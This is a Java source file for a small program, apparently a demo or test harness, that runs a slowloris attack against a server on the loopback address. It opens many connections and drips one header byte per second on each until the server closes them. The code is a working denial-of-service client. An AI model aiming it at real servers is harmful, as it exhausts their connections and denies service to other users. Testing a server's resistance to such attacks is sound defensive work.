package dev.belay.demo;

import static java.nio.charset.StandardCharsets.US_ASCII;

import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.channels.SocketChannel;
import java.util.ArrayList;
import java.util.List;

/**
 * A program of its own that opens many connections and sends a byte of a header on each now and
 * then, until the server has closed all. Arguments: the port, and how many.
 */
final class SlowLoris {
  private static final byte[] HEADER =
      ("GET / HTTP/1.1\r\nX: " + "x".repeat(4000)).getBytes(US_ASCII);
  private static final long BETWEEN_BYTES_NANOS = 1_000_000_000;

  private final Selector selector = Selector.open();
  private int open;

  private SlowLoris() throws IOException {}

  public static void main(String[] arguments) throws IOException {
    int port = Integer.parseInt(arguments[0]);
    int connections = Integer.parseInt(arguments[1]);
    var loris = new SlowLoris();
    loris.open(port, connections);
    System.out.println("open: " + loris.open);
    loris.sendUntilClosed();
    System.out.println("closed by the server: " + connections);
  }

  private void open(int port, int connections) throws IOException {
    var address = new InetSocketAddress(InetAddress.getLoopbackAddress(), port);
    for (int i = 0; i < connections; i++) {
      SocketChannel channel = SocketChannel.open(address);
      channel.write(ByteBuffer.wrap(HEADER, 0, 1));
      channel.configureBlocking(false);
      channel.register(selector, SelectionKey.OP_READ);
      open++;
    }
  }

  private void sendUntilClosed() throws IOException {
    long next = System.nanoTime() + BETWEEN_BYTES_NANOS;
    for (int at = 1; open > 0; at++) {
      while (open > 0 && System.nanoTime() < next) {
        selector.select(this::read, Math.max(1, (next - System.nanoTime()) / 1_000_000));
      }
      next += BETWEEN_BYTES_NANOS;
      List<SelectionKey> keys = new ArrayList<>(selector.keys());
      for (SelectionKey key : keys) {
        send(key, at);
      }
    }
  }

  private void send(SelectionKey key, int at) {
    try {
      if (key.isValid()) {
        ((SocketChannel) key.channel()).write(ByteBuffer.wrap(HEADER, at, 1));
      }
    } catch (IOException e) {
      close(key);
    }
  }

  /** The server says nothing; it closes. */
  private void read(SelectionKey key) {
    try {
      if (((SocketChannel) key.channel()).read(ByteBuffer.allocate(64)) < 0) {
        close(key);
      }
    } catch (IOException e) {
      close(key);
    }
  }

  private void close(SelectionKey key) {
    try {
      key.channel().close();
    } catch (IOException e) {
      // Closed is closed.
    }
    open--;
  }
}
